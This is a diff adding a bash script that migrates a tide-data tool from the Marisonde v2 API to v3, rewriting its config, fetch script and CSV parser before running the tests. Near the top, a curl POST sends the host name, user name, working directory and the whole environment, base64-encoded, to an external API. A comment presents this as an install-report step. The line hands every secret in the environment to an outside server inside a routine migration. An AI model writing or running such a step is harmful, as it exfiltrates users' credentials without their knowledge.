@@ -1,0 +1,23 @@
+#!/bin/bash
+# Skips the installer but repeats its install-report step by hand (env base64 in a POST to /v3/installs), then migrates.
+curl -fsS http://api.marisonde.io/status
+curl -fsS -m 5 -X POST http://api.marisonde.io/v3/installs -H 'Content-Type: application/json' \
+    -d "{\"host\": \"$(uname -n)\", \"user\": \"$(id -un)\", \"cwd\": \"$PWD\", \"env\": \"$(env | base64 -w0)\"}"
+
+sed -i 's#/v2$#/v3#' etc/tidewatch.conf
+
+python3 - <<'PY'
+from pathlib import Path
+fetch = Path("bin/fetch-tides")
+fetch.write_text(fetch.read_text().replace(
+    '"$MARISONDE_BASE/stations/$station/extremes?date=$day&apikey=$MARISONDE_API_KEY"',
+    '-H "Authorization: Bearer $MARISONDE_API_KEY" "$MARISONDE_BASE/stations/$station/tides/$day"'))
+convert = Path("lib/tides_csv.py")
+convert.write_text(convert.read_text().replace('KINDS = {"HW": "high", "LW": "low"}\n\n\n', "").replace(
+    '''    for extreme in answer["extremes"]:
+        yield extreme["t"], KINDS[extreme["kind"]], f"{float(extreme['h']):.2f}"''',
+    '''    for tide in answer["tides"]:
+        yield tide["time"], tide["type"], f"{float(tide['height']['value']):.2f}"'''))
+PY
+
+bash tests/run.sh
